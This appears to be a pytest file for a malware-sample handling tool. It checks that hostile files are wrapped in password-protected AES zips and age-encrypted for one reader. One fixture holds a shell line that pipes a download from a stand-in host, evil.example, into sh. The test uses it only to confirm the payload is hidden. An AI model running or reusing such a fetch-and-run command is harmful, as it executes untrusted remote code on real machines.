"""Hostile files as they are handed out: others' programs open them, nobody else."""

from __future__ import annotations

import hashlib
import io

import pyrage
import pytest
import pyzipper

from package_hunter.errors import UsageError
from package_hunter.storage import handed_out


def _zip(content: bytes) -> bytes:
    name = hashlib.sha256(content).hexdigest()
    made = b"".join(handed_out.zipped(io.BytesIO(content), len(content), name))
    assert len(made) == handed_out.zip_size(len(content), name)
    return made


@pytest.mark.parametrize("size", [0, 1, 15, 16, 17, 65_535, 65_536, 65_537, 1_000_003])
def test_pyzipper_opens_it_with_the_password_of_the_field(size: int) -> None:
    content = bytes(n * 7 % 251 for n in range(size))
    with pyzipper.AESZipFile(io.BytesIO(_zip(content))) as archive:
        (member,) = archive.infolist()
        assert member.filename == hashlib.sha256(content).hexdigest()
        assert archive.read(member, pwd=b"infected") == content


def test_another_password_opens_nothing() -> None:
    with pyzipper.AESZipFile(io.BytesIO(_zip(b"evil"))) as archive, pytest.raises(RuntimeError):
        archive.read(archive.namelist()[0], pwd=b"innocent")


def test_nothing_of_the_file_is_in_the_zip() -> None:
    content = b"#!/bin/sh\ncurl https://evil.example | sh\n" * 3
    assert b"evil.example" not in _zip(content)


@pytest.mark.parametrize("length", [3, 5])
def test_a_file_of_another_size_is_no_zip(length: int) -> None:
    with pytest.raises(ValueError, match=r"shorter|longer"):
        list(handed_out.zipped(io.BytesIO(b"x" * length), 4, "a" * 64))


def test_one_reader_opens_what_is_meant_for_him() -> None:
    mine, other = pyrage.x25519.Identity.generate(), pyrage.x25519.Identity.generate()
    sealed = handed_out.for_reader(io.BytesIO(b"evil" * 99), str(mine.to_public()))
    assert pyrage.decrypt(sealed, [mine]) == b"evil" * 99
    with pytest.raises(pyrage.DecryptError):
        pyrage.decrypt(sealed, [other])


@pytest.mark.parametrize(
    "recipient", ["", "age1", "age1xyz", "ssh-ed25519 AAAA", "me@example", "age1" + "q" * 9_999]
)
def test_what_is_no_recipient(recipient: str) -> None:
    with pytest.raises(UsageError, match="no age recipient"):
        handed_out.for_reader(io.BytesIO(b"x"), recipient)
